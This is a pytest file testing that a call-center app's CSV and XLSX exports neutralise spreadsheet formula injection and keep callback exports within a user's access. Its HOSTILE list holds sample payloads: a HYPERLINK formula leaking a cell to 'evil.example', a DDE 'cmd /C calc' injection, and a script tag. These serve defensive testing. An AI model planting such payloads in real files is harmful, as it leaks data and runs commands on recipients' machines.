"""Calls and callbacks in a spreadsheet: whole, and harmless whatever a caller wrote."""

from __future__ import annotations

import csv
import io
from datetime import UTC, datetime, timedelta

import pytest
from aiohttp.test_utils import TestClient
from hypothesis import given
from hypothesis import strategies as st
from openpyxl import load_workbook

from ami_bridge.adapters.store import Store
from ami_bridge.desk.sheets import LONGEST_CELL, csv_lines, harmless

from .conftest import add_user, token_of

START = datetime(2026, 3, 2, 9, 0, tzinfo=UTC)
HOSTILE = [
    "<script>alert(1)</script>",
    'Eve "the" O\'Brien; DROP',
    '=HYPERLINK("http://evil.example?"&A1,"ok")',
    "+SUM(1)*cmd|' /C calc'!A0",
    "-2+3",
    "@SUM(1)",
    "\t=1+1",
    " =1+1",
    "'=1+1",
    "＝1＋1",
    "|calc",
    "😀👩‍👩‍👧 emoji",
    "\u202eright to left\u2066",
    "שלום عليكم",
    "line\r\n=2",
    "nul\x00bell\x07",
    "x" * 10_240,
    "=" * 40_000,
]


async def save_hostile(store: Store) -> None:
    for number, name in enumerate(HOSTILE):
        await store.save_call(
            {
                "call_id": f"c{number:02}",
                "started_at": (START + timedelta(minutes=number)).isoformat(),
                "caller": {"number": name[:79], "name": name},
                "department": "sales",
                "talk_seconds": 12.5,
            }
        )


def is_formula(text: str) -> bool:
    bare = text.lstrip("+")
    return text[:1] in tuple("=+-@\t\r＝＋－＠|") and not (bare.isdigit() and len(bare) <= 15)


async def test_csv_shows_every_name_as_text(desk: TestClient, store: Store) -> None:
    await save_hostile(store)
    answer = await desk.get("/api/v1/export/calls")
    assert (answer.status, answer.content_type) == (200, "text/csv")
    assert "attachment" in answer.headers["Content-Disposition"]
    body = await answer.read()
    assert body.startswith(b"\xef\xbb\xbf")
    head, *rows = list(csv.reader(io.StringIO(body.decode("utf-8-sig"), newline="")))
    assert len(rows) == len(HOSTILE)
    shown = {row[0]: row[head.index("caller_name")] for row in rows}
    assert shown["c00"] == HOSTILE[0]
    assert shown["c02"] == "'" + HOSTILE[2]
    assert shown["c11"] == HOSTILE[11]
    assert shown["c12"] == "\ufffdright to left\ufffd"
    assert shown["c13"] == HOSTILE[13]
    assert shown["c14"] == "line  =2"
    assert shown["c16"] == HOSTILE[16]
    assert len(shown["c17"]) <= LONGEST_CELL + 1
    assert not [cell for row in rows for cell in row if is_formula(cell)]
    assert rows[0][head.index("talk_seconds")] == "12.5"
    (entry,) = await store.audits()
    assert (entry.action, entry.actor, entry.detail["format"]) == ("export.calls", "desk", "csv")


async def test_xlsx_holds_text_where_text_was_and_no_formula(desk: TestClient, store: Store) -> None:
    await save_hostile(store)
    answer = await desk.get("/api/v1/export/calls", params={"format": "xlsx"})
    assert answer.status == 200
    sheet = load_workbook(io.BytesIO(await answer.read())).worksheets[0]
    head = [cell.value for cell in sheet[1]]
    column = head.index("caller_name")
    rows = list(sheet.iter_rows(min_row=2))
    assert len(rows) == len(HOSTILE)
    assert {cell.data_type for row in rows for cell in row} <= {
        "inlineStr",
        "s",
        "n",
        "d",
    }  # "f" would be a formula
    newest = rows[0]
    assert newest[head.index("started_at (UTC)")].value == (START + timedelta(minutes=17)).replace(
        tzinfo=None
    )
    shown = {row[0].value: row[column] for row in rows}
    assert shown["c02"].value == HOSTILE[2]  # as it was, and text
    assert shown["c02"].quotePrefix
    assert shown["c16"].value == HOSTILE[16]


async def test_callbacks_are_taken_home_too_and_only_what_one_may_see(
    stranger: TestClient, store: Store
) -> None:
    await add_user(store, "boss", "supervisor", departments=("sales",))
    await add_user(store, "anna", extension="101")
    await store.create_callback("k1", "sales", caller_id="+79161234567", name_text="=1+1")
    await store.create_callback("k2", "support")
    path = "/api/v1/export/callbacks"
    assert (await stranger.get(path, headers=await token_of(store, "anna"))).status == 403
    answer = await stranger.get(path, headers=await token_of(store, "boss"))
    head, *rows = list(csv.reader(io.StringIO((await answer.read()).decode("utf-8-sig"), newline="")))
    assert [(row[head.index("name")], row[head.index("caller_id")]) for row in rows] == [
        ("'=1+1", "+79161234567")
    ]


async def test_long_lists_are_whole(desk: TestClient, store: Store) -> None:
    await store.save_calls(
        [{"call_id": f"c{number}", "started_at": START.isoformat()} for number in range(1203)]
    )
    rows = (await (await desk.get("/api/v1/export/calls")).text()).splitlines()
    assert len(rows) == len(set(rows)) == 1204
    some = (await (await desk.get("/api/v1/export/calls", params={"limit": "700"})).text()).splitlines()
    assert len(some) == 701


@given(st.text())
def test_no_text_becomes_a_formula_or_a_second_row(text: str) -> None:
    ((cell,),) = csv.reader(io.StringIO(csv_lines([[text]]), newline="")) if harmless(text) else [[""]]
    assert not is_formula(cell)
    assert cell.removeprefix("'") == harmless(text).removeprefix("'") or cell == "'" + harmless(text)


@pytest.mark.parametrize("number", ["+79161234567", "74950000001", "101"])
def test_a_number_stays_a_number(number: str) -> None:
    assert csv_lines([[number]]) == f"{number}\r\n"
